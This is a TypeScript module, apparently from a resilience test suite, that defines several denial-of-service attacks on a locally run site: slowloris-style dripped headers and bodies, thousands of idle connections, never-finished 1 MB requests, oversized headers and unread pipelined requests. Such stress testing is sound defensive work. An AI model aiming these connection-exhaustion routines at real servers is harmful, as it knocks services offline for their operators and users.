import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Clock } from "../attack.ts";
import { keepPace, untilOver } from "../pace.ts";
import type { Site } from "../site.ts";
import { attackerAt } from "../ticket-form.ts";

/** A thousand a second: it is not the opening that is tried here. */
const openedAtOnce = 20;
const openEveryMs = 20;

/** Opens so many connections, lets each begin, and drips what `drip` gives on each of them once a second. */
export async function holdConnections(
  site: Site,
  clock: Clock,
  count: number,
  begin: string,
  drip: (index: number) => string,
) {
  const sockets: Socket[] = [];
  const open = (index: number) => {
    const socket = connect({
      port: site.port,
      host: "127.0.0.1",
      localAddress: `127.0.${1 + (index >> 8)}.${index & 255 || 1}`,
    });
    socket.on("error", () => undefined);
    socket.resume();
    socket.once("connect", () => begin && socket.write(begin));
    sockets[index] = socket;
  };
  for (let index = 0; index < count && !clock.over(); index++) {
    open(index);
    if (index % openedAtOnce === 0) await delay(openEveryMs);
  }
  const timer = setInterval(() => {
    for (const [index, socket] of sockets.entries()) {
      const text = drip(index);
      if (text && socket.writable && !socket.connecting) socket.write(text);
    }
  }, 1000);
  await untilOver(clock);
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
}

export const manyConnections: Attack[] = [
  {
    row: "16a",
    name: "mille richieste con le intestazioni a gocce",
    prepare: async (site) => ({
      attack: (clock) =>
        holdConnections(site, clock, 1000, `GET / HTTP/1.1\r\nhost: 127.0.0.1:${site.port}\r\n`, () => "x-a: b\r\n"),
    }),
  },
  {
    row: "16b",
    name: "cinquemila connessioni aperte e mute",
    prepare: async (site) => ({ attack: (clock) => holdConnections(site, clock, 5000, "", () => "") }),
  },
  {
    row: "16c",
    name: "mille moduli con il corpo a gocce",
    prepare: async (site) => ({
      attack: (clock) =>
        holdConnections(
          site,
          clock,
          1000,
          `POST /api/contact HTTP/1.1\r\nhost: 127.0.0.1:${site.port}\r\ncontent-type: application/json\r\ncontent-length: 200000\r\n\r\n{"firstName":"`,
          () => "a",
        ),
    }),
  },
  {
    row: "16f",
    name: "400 chiamate da 1 MB, mai finite",
    prepare: async (site) => {
      const length = 2 ** 20;
      const head = `POST /trpc/tickets.typing HTTP/1.1\r\nhost: 127.0.0.1:${site.port}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
      return {
        attack: (clock) => holdConnections(site, clock, 400, `${head}"${"a".repeat(length - 2000)}`, () => "a"),
      };
    },
  },
  {
    row: "16d",
    name: "intestazioni di 15 KB, mille in fila per connessione",
    prepare: async (site) => ({
      attack: (clock) =>
        keepPace(clock, 40, async (index) => {
          const headers = { "x-lunga": "a".repeat(15_000), cookie: "a=b; ".repeat(100) };
          await site.call("/", { from: attackerAt(index), headers, signal: clock.signal });
        }),
    }),
  },
  {
    row: "16e",
    name: "cento home chieste in fila senza leggerle",
    prepare: async (site) => {
      const line = `GET / HTTP/1.1\r\nhost: 127.0.0.1:${site.port}\r\n\r\n`;
      return {
        async attack(clock) {
          const sockets: Socket[] = [];
          while (sockets.length < 100) {
            const socket = connect(site.port, "127.0.0.1", () => socket.write(line.repeat(100)));
            socket.on("error", () => undefined);
            sockets.push(socket.pause());
            await delay(openEveryMs);
          }
          await untilOver(clock);
          for (const socket of sockets) socket.destroy();
        },
      };
    },
  },
];
